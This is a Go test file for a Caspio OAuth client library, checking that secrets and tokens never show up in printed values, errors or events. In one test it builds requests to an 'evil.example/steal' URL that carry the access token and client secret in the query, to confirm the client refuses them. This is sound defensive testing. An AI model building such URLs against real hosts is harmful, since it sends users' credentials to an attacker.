package client_test

import (
	"context"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/caspio-auth/caspio"
	"github.com/caspio-auth/caspio/client"
	"github.com/caspio-auth/caspio/sandbox"
)

// TestSecretsNeverPrinted drives the client through successes and failures, then prints
// everything a program might log (the client, tokens, stores, errors, events) with every
// fmt verb, and looks for the client secret, the access and refresh tokens, raw and in hex.
func TestSecretsNeverPrinted(t *testing.T) {
	t.Parallel()
	e := newEnv(t, sandbox.Options{})
	var log events
	store := client.NewMemoryStore()
	c := e.client(t, client.Options{Store: store, OnEvent: log.add})
	ctx := context.Background()

	tok, err := c.Token(ctx)
	require.NoError(t, err)
	raw, err := store.Load(ctx)
	require.NoError(t, err)
	var stored map[string]any
	require.NoError(t, json.Unmarshal(raw, &stored))
	refreshToken, _ := stored["refresh_token"].(string)
	require.NotEmpty(t, refreshToken)
	secrets := map[string]string{
		"client secret": testSecret,
		"access token":  tok.AccessToken.Reveal(),
		"refresh token": refreshToken,
		"Basic value":   strings.TrimPrefix(e.basic(), "Basic "),
	}

	var errs []error
	collect := func(err error) {
		t.Helper()
		require.Error(t, err)
		errs = append(errs, err)
	}
	// A token response that echoes the secrets in token fields the client rejects.
	echo := fmt.Sprintf(`{"access_token":%q,"refresh_token":%q,"token_type":"bearer","expires_in":60}`, tok.AccessToken.Reveal()+" "+testSecret, refreshToken+"\u0000")
	e.fault(t, sandbox.Fault{Route: "/oauth/token", Status: 200, Body: &echo})
	_, err = c.Authenticate(ctx)
	collect(err)
	// A redirect, an OAuth error, a dropped connection.
	e.fault(t, sandbox.Fault{Route: "/oauth/token", Status: 307, Location: "https://elsewhere.example/oauth/token"})
	_, err = c.Refresh(ctx)
	collect(err)
	e.fault(t, sandbox.Fault{Route: "/oauth/token", Status: 400, Body: ptr(`{"error":"invalid_grant"}`)})
	e.fault(t, sandbox.Fault{Route: "/oauth/token", Status: 401})
	_, err = c.Refresh(ctx) // refused refresh token: then a login, also refused
	collect(err)
	// Wrong credentials, through Do (wrapped by net/http).
	wrong := e.config()
	wrong.ClientSecret = caspio.NewSecret("wrong-" + testSecret)
	bad := e.clientWith(t, wrong, client.Options{OnEvent: log.add})
	req, err := bad.NewRequest(ctx, "GET", "tables", nil)
	require.NoError(t, err)
	_, err = bad.Do(req)
	collect(err)
	var oe *caspio.OAuthError
	require.ErrorAs(t, err, &oe, "errors.As reaches the core's error through net/http's")
	// Refused URLs that carry a secret in their query.
	_, err = c.NewRequest(ctx, "GET", "https://evil.example/steal?token="+url.QueryEscape(tok.AccessToken.Reveal()), nil)
	collect(err)
	evil, err := http.NewRequest("GET", "https://evil.example/steal?secret="+url.QueryEscape(testSecret), nil)
	require.NoError(t, err)
	_, err = c.Do(evil)
	collect(err)
	// An unreachable token endpoint.
	gone := e.config()
	gone.IntegrationURL = "http://127.0.0.1:1"
	_, err = e.clientWith(t, gone, client.Options{OnEvent: log.add, TokenTimeout: 1}).Token(ctx)
	collect(err)
	// Config errors.
	_, err = client.New(caspio.Config{IntegrationURL: e.ts.URL, ClientID: testID + ":" + testSecret, ClientSecret: caspio.NewSecret(testSecret)}, client.Options{})
	collect(err)

	values := map[string]any{
		"client":          c,
		"token":           tok,
		"token value":     *tok,
		"tokens":          []client.Token{*tok},
		"memory store":    store,
		"stats":           c.Stats(),
		"nested":          struct{ T *client.Token }{tok},
		"client in a map": map[string]*client.Client{"c": c},
	}
	for i, err := range errs {
		values[fmt.Sprintf("error %d", i)] = err
	}
	for i, ev := range log.list() {
		values[fmt.Sprintf("event %d (%s)", i, ev.Kind)] = ev
	}
	require.NotEmpty(t, log.of(client.EventTokenError))

	verbs := []string{"%v", "%+v", "%#v", "%s", "%d", "%x", "%X", "%q", "%T"}
	for name, v := range values {
		for _, verb := range verbs {
			out := fmt.Sprintf(verb, v)
			for what, secret := range secrets {
				if strings.Contains(out, secret) || strings.Contains(strings.ToLower(out), hex.EncodeToString([]byte(secret))) {
					t.Errorf("%s printed with %s shows the %s: %s", name, verb, what, out)
				}
			}
		}
	}
	assert.Equal(t, "caspio client{token URL "+e.ts.URL+"/oauth/token, resource base "+e.ts.URL+"/rest/v2, client ID "+testID+", secret [redacted]}", c.String())
	assert.Equal(t, fmt.Sprintf("%q", c.String()), fmt.Sprintf("%q", c))
	assert.Contains(t, tok.String(), "access token [redacted]")
	assert.Equal(t, "Bearer "+secrets["access token"], tok.Authorization())
}

// TestConfigErrorsShowNoValue: a secret pasted into the wrong field of the Config reaches no
// message through client.New, nor does a password in a URL (errors.go says what may show).
func TestConfigErrorsShowNoValue(t *testing.T) {
	t.Parallel()
	const pasted = "Zq8vKx1mN0pQ/77rT" // a secret with a "/", as Base64 ones have
	valid := caspio.Config{Account: "c1abc123", ClientID: testID, ClientSecret: caspio.NewSecret(testSecret)}
	cases := []struct {
		name  string
		edit  func(c *caspio.Config)
		field string
	}{
		{"as the account", func(c *caspio.Config) { c.Account = pasted }, "Account"},
		// An API version or placement is quoted up to 24 characters (input.go); a secret is longer.
		{"as the API version", func(c *caspio.Config) { c.APIVersion = pasted + pasted }, "APIVersion"},
		{"as the credentials placement", func(c *caspio.Config) { c.Credentials = pasted + pasted }, "Credentials"},
		{"as the client ID", func(c *caspio.Config) { c.ClientID = pasted + " " }, "ClientID"},
		{"as the integration URL", func(c *caspio.Config) { c.Account, c.IntegrationURL = "", pasted }, "IntegrationURL"},
		{"as the token URL", func(c *caspio.Config) {
			c.Account, c.TokenURL, c.ResourceURL = "", pasted, "https://c1abc123.caspio.com/rest/v2"
		}, "TokenURL"},
		{"in the user info of the integration URL", func(c *caspio.Config) {
			c.Account, c.IntegrationURL = "", "https://"+testID+":"+pasted+"@c1abc123.caspio.com"
		}, "IntegrationURL"},
		{"as the port of the resource URL", func(c *caspio.Config) {
			c.Account, c.TokenURL, c.ResourceURL = "", "https://c1abc123.caspio.com/oauth/token", "https://c1abc123.caspio.com:"+pasted
		}, "ResourceURL"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			cfg := valid
			tc.edit(&cfg)
			_, err := client.New(cfg, client.Options{})
			var ce *caspio.ConfigError
			require.ErrorAs(t, err, &ce)
			assert.Equal(t, tc.field, ce.Field)
			for _, part := range []string{"Zq8v", "zq8v", "Kx1mN0", "77rT", "77rt"} {
				assert.NotContains(t, err.Error(), part)
			}
		})
	}
}

// TestTokenResponseValuesNotShown: a token endpoint that puts a short token in token_type, or
// echoes the client secret in its error description, has neither shown.
func TestTokenResponseValuesNotShown(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name   string
		fault  sandbox.Fault
		hidden string
	}{
		{"a token as token_type", sandbox.Fault{Route: "/oauth/token", Status: 200, Body: ptr(`{"access_token":"at","token_type":"Zq8vKx","expires_in":60}`)}, "Zq8vKx"},
		{"a token as expires_in", sandbox.Fault{Route: "/oauth/token", Status: 200, Body: ptr(`{"access_token":"at","token_type":"bearer","expires_in":"Zq8vKx"}`)}, "Zq8vKx"},
		{"the secret echoed in an OAuth error", sandbox.Fault{Route: "/oauth/token", Status: 401, Body: ptr(`{"error":"invalid_client","error_description":"unknown secret ` + testSecret + `"}`)}, testSecret},
		{"user info in a redirect", sandbox.Fault{Route: "/oauth/token", Status: 302, Location: "https://" + testID + ":Zq8v/Kx1@elsewhere.example/oauth/token"}, "Zq8v"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, sandbox.Options{})
			var log events
			c := e.client(t, client.Options{OnEvent: log.add})
			e.fault(t, tc.fault)
			_, err := c.Token(context.Background())
			require.Error(t, err)
			assert.NotContains(t, err.Error(), tc.hidden)
			assert.NotContains(t, fmt.Sprintf("%+v", err), tc.hidden)
			for _, ev := range log.list() {
				assert.NotContains(t, fmt.Sprintf("%+v", ev), tc.hidden)
			}
		})
	}
}
